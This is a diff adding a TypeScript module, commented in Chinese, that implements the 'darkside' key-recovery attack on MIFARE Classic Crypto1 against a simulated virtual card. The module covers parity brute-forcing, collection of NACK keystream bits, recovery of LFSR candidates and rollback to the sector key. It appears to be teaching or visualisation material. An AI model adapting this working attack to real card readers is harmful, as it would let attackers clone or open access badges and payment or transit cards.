@@ -0,0 +1,263 @@
+import { AuthTrace } from './bruteforce';
+import { beBit, crypto1Bit, crypto1GetLfsr, crypto1Word, Crypto1State, filter, lfsrRollbackBit, lfsrRollbackWord } from './crypto1';
+import { BITSLICE_LANES, bitslicedBit, bitslicedCopy, bitslicedCreateStates, bitslicedLaneMask } from './crypto1Bitsliced';
+import { oddParity8 } from './iso14443a';
+import { darksideAuth, KeyType, readerAuthenticate, resetCard, VirtualCard } from './virtualCard';
+
+// Darkside attack：卡片先檢查 8 個同位位元才檢查 aR
+// 同位全對但 aR 錯誤時，卡片會回應以 keystream 加密的 4 位元 NACK，每次洩漏 4 個 keystream 位元
+// 固定 {nR} 前 29 位元、只改變最後 3 位元，收集 8 組同位位元與 NACK，即可還原 LFSR 狀態
+
+export interface DarksideTarget {
+  block: number;
+  keyType: KeyType;
+}
+
+// 一個 {nR} 變化（最後 3 位元為 variant）找到的同位位元與 NACK
+export interface DarksideVariant {
+  variant: number;
+  nREnc: number;
+  parity: number[];
+  nack: number;
+  ks: number;             // NACK ⊕ 0x5：aR 之後的 4 個 keystream 位元
+  attempts: number;       // 找到正確同位位元前送出的次數
+}
+
+export type DarksidePhase = 'sync' | 'parity' | 'collect' | 'recover' | 'verify' | 'done';
+
+export interface DarksideProgress {
+  phase: DarksidePhase;
+  message: string;
+  nT: number | null;
+  nRPrefix: number;
+  aREnc: number;
+  round: number;          // 第幾組 {nR} 前綴
+  attempts: number;       // 總共送出的 {nR}{aR} 次數
+  skipped: number;        // nT 不同步而捨棄的次數
+  variants: DarksideVariant[];
+  oddCandidates: number;
+  evenCandidates: number;
+  stateCandidates: number;
+  candidateKeys: number[];
+  key: number | null;
+  trace: AuthTrace | null;   // 以還原金鑰驗證目標扇區時錄下的完整驗證
+}
+
+export const parityBits = (value: number): number[] =>
+  Array.from({ length: 8 }, (_, i) => (value >>> (7 - i)) & 1);
+
+// 只有 {nR} 最後 3 位元不同時，經過 steps 個位元後 LFSR 的差異
+// 未加密回饋時 LFSR 為線性，可直接由零狀態推進求得
+const variantDifference = (variant: number, steps: number): Crypto1State => {
+  const state: Crypto1State = { odd: 0, even: 0 };
+  crypto1Word(state, variant << 5, false);
+  crypto1Word(state, 0, false);
+  for (let i = 0; i < steps; i++) crypto1Bit(state, 0, false);
+  return state;
+};
+
+// 過濾函數只看 20 位元：列出所有 21 位元視窗中，每個變化的兩個 NACK 位元都吻合的值
+const windowCandidates = (differences: number[], firstBits: number[], secondBits: number[]): number[] => {
+  const result: number[] = [];
+  for (let i = 0; i < 1 << 21; i++) {
+    let match = true;
+    for (let c = 0; c < differences.length && match; c++) {
+      const x = i ^ differences[c];
+      match = filter(x >>> 1) === firstBits[c] && filter(x) === secondBits[c];
+    }
+    if (match) result.push(i);
+  }
+  return result;
+};
+
+// 以 bitsliced 引擎一次重播 32 個候選狀態（UID ⊕ nT 移入後、{nR} 之前）：
+// 每個變化的 8 個同位位元與 NACK 的 4 個 keystream 位元都吻合的 lane 才保留
+// keystream 第 0–31 位元加密 {nR}、32–63 加密 aR、64–67 加密 NACK；同位位元以下一個位元組第一個 keystream 位元加密
+const matchingLanes = (states: Crypto1State[], aREnc: number, variants: DarksideVariant[]): number => {
+  const initial = bitslicedCreateStates(states);
+  let alive = bitslicedLaneMask(states.length);
+  for (const variant of variants) {
+    const state = bitslicedCopy(initial);
+    let byteParity = 0;
+    for (let i = 0; i < 68 && alive; i++) {
+      const ks = i < 32 ? bitslicedBit(state, beBit(variant.nREnc, i), true) : bitslicedBit(state, 0, false);
+      if (i > 0 && (i & 7) === 0) {
+        const byte = (i >> 3) - 1;
+        const cipher = byte < 4 ? variant.nREnc : aREnc;
+        const expected = variant.parity[byte] ^ oddParity8((cipher >>> (24 - (byte & 3) * 8)) & 0xFF);
+        alive &= expected ? byteParity ^ ks : ~(byteParity ^ ks);
+        byteParity = 0;
+      }
+      byteParity ^= ks;
+      if (i >= 64) alive &= (variant.ks >>> (i - 64)) & 1 ? ks : ~ks;
+    }
+    if (!alive) break;
+  }
+  return alive;
+};
+
+export interface DarksideRecovery {
+  oddCandidates: number;
+  evenCandidates: number;
+  stateCandidates: number;
+  keys: number[];
+}
+
+// 由 8 組 NACK 還原金鑰
+// NACK 的第 1、3 個 keystream 位元只取決於奇數位暫存器，第 2、4 個只取決於偶數位暫存器，兩半可分開列舉
+// 這裡假設 8 個變化之間的狀態差異只來自 {nR} 最後 3 個明文位元；若 keystream 也隨之改變，就換一組前綴重試
+export const recoverDarksideKey = (
+  uid: number, nT: number, aREnc: number, variants: DarksideVariant[]
+): DarksideRecovery => {
+  const atNack = variants.map(v => variantDifference(v.variant, 2).odd & 0x1FFFFF);
+  const afterNack = variants.map(v => variantDifference(v.variant, 3));
+  const ksBit = (n: number) => variants.map(v => (v.ks >>> n) & 1);
+
+  const odd = windowCandidates(atNack, ksBit(0), ksBit(2));
+  const even = windowCandidates(afterNack.map(d => d.odd & 0x1FFFFF), ksBit(1), ksBit(3));
+
+  let stateCandidates = 0;
+  const keys = new Set<number>();
+  let batch: Crypto1State[] = [];
+  const checkBatch = () => {
+    const matches = matchingLanes(batch, aREnc, variants);
+    batch.forEach((state, lane) => {
+      if (!((matches >>> lane) & 1)) return;
+      // 吻合的狀態再回捲 UID ⊕ nT，回到驗證開始前的 LFSR 就是金鑰
+      stateCandidates++;
+      lfsrRollbackWord(state, (uid ^ nT) >>> 0, false);
+      keys.add(crypto1GetLfsr(state));
+    });
+    batch = [];
+  };
+  for (const o of odd) {
+    for (const e of even) {
+      // 視窗只涵蓋 21 位元，暫存器最高 3 位元逐一嘗試
+      for (let top = 0; top < 64; top++) {
+        // 第一個變化 NACK 後的狀態回捲 3 個 NACK 位元、aR、{nR}，回到 {nR} 之前
+        // 回捲 NACK 位元時順便比對第一個變化的 keystream，不吻合就不必繼續回捲
+        const state: Crypto1State = { odd: (e | (top & 7) << 21) >>> 0, even: (o | (top >>> 3) << 21) >>> 0 };
+        let nackMatches = filter(state.odd) === ((variants[0].ks >>> 3) & 1);
+        for (let i = 2; i >= 0 && nackMatches; i--) nackMatches = lfsrRollbackBit(state, 0, false) === ((variants[0].ks >>> i) & 1);
+        if (!nackMatches) continue;
+        lfsrRollbackWord(state, 0, false);
+        lfsrRollbackWord(state, variants[0].nREnc, true);
+        // 候選狀態每 32 個一批，重播 8 個變化檢查同位位元與 NACK
+        batch.push(state);
+        if (batch.length === BITSLICE_LANES) checkBatch();
+      }
+    }
+  }
+  if (batch.length > 0) checkBatch();
+
+  return { oddCandidates: odd.length, evenCandidates: even.length, stateCandidates, keys: Array.from(keys) };
+};
+
+const nextFrame = () => new Promise(resolve => setTimeout(resolve, 0));
+
+const randomWord = () => Math.floor(Math.random() * 0x100000000) >>> 0;
+
+const MAX_ROUNDS = 8;
+
+// 執行完整的 darkside attack，每個階段透過 onProgress 回報實際數據
+export const runDarksideAttack = async (
+  card: VirtualCard,
+  target: DarksideTarget,
+  onProgress: (progress: DarksideProgress) => void
+): Promise<number | null> => {
+  const progress: DarksideProgress = {
+    phase: 'sync',
+    message: '',
+    nT: null,
+    nRPrefix: 0,
+    aREnc: 0,
+    round: 0,
+    attempts: 0,
+    skipped: 0,
+    variants: [],
+    oddCandidates: 0,
+    evenCandidates: 0,
+    stateCandidates: 0,
+    candidateKeys: [],
+    key: null,
+    trace: null,
+  };
+  const report = async (phase: DarksidePhase, message: string) => {
+    progress.phase = phase;
+    progress.message = message;
+    onProgress({ ...progress, variants: [...progress.variants], candidateKeys: [...progress.candidateKeys] });
+    await nextFrame();
+  };
+
+  // 每次送出前都讓卡片斷電重開；nT 與目標不同就捨棄，只計算同步的嘗試
+  const send = (nREnc: number, parity: number[]) => {
+    for (;;) {
+      const response = darksideAuth(card, target.block, target.keyType, nREnc, progress.aREnc, parity);
+      if (progress.nT === null) progress.nT = response.nT;
+      if (response.nT === progress.nT) {
+        progress.attempts++;
+        return response.nack;
+      }
+      progress.skipped++;
+    }
+  };
+
+  // 步驟一：同步時序，讓每次斷電重開後取得相同的 nT
+  await report('sync', '斷電重開並同步時序，鎖定 nT');
+
+  for (let round = 1; round <= MAX_ROUNDS; round++) {
+    progress.round = round;
+    progress.nRPrefix = randomWord() & ~0xE0;
+    progress.aREnc = randomWord();
+    progress.variants = [];
+
+    // 步驟二：固定 {nR}{aR}，逐一猜測 8 個同位位元，直到卡片回應 NACK
+    for (let variant = 0; variant < 8; variant++) {
+      const nREnc = (progress.nRPrefix | variant << 5) >>> 0;
+      // 前 3 個位元組的同位位元與最後 3 位元無關，找到第一組後只需猜後 5 個
+      const known = progress.variants.length ? progress.variants[0].parity.slice(0, 3) : null;
+      const limit = known ? 32 : 256;
+      let found: DarksideVariant | null = null;
+      for (let guess = 0; guess < limit && !found; guess++) {
+        const parity = known ? [...known, ...parityBits(guess).slice(3)] : parityBits(guess);
+        const nack = send(nREnc, parity);
+        if (nack !== null) {
+          found = { variant, nREnc, parity, nack, ks: nack ^ 0x5, attempts: guess + 1 };
+        }
+      }
+      if (!found) break;
+      progress.variants.push(found);
+      await report(variant === 0 ? 'parity' : 'collect',
+        `變化 ${variant}：第 ${found.attempts} 次嘗試收到 NACK ${found.nack.toString(16).toUpperCase()}`);
+    }
+    if (progress.variants.length < 8) {
+      await report('parity', `第 ${round} 組前綴未收齊 8 組 NACK，更換 {nR} 重試`);
+      continue;
+    }
+
+    // 步驟三：由 32 個 NACK keystream 位元與 64 個同位位元還原狀態並回捲出金鑰
+    await report('recover', '列舉奇偶暫存器視窗並以同位位元過濾...');
+    const recovery = recoverDarksideKey(card.uid, progress.nT as number, progress.aREnc, progress.variants);
+    progress.oddCandidates = recovery.oddCandidates;
+    progress.evenCandidates = recovery.evenCandidates;
+    progress.stateCandidates = recovery.stateCandidates;
+    progress.candidateKeys = recovery.keys;
+    await report('recover', `奇數位 ${recovery.oddCandidates} 個、偶數位 ${recovery.evenCandidates} 個視窗，${recovery.keys.length} 個候選金鑰`);
+
+    // 步驟四：以實際驗證確認候選金鑰
+    for (const key of recovery.keys) {
+      resetCard(card);
+      const auth = readerAuthenticate(card, target.block, target.keyType, key);
+      if (auth.success) {
+        progress.key = key;
+        progress.trace = { uid: card.uid, nT: auth.nT, nREnc: auth.nREnc, aREnc: auth.aREnc, aTEnc: auth.aTEnc };
+        await report('done', '驗證成功，取得目標金鑰');
+        return key;
+      }
+    }
+    await report('verify', `第 ${round} 組前綴沒有可用的候選金鑰，更換 {nR} 重試`);
+  }
+
+  await report('done', '找不到金鑰，請重新執行攻擊');
+  return null;
+};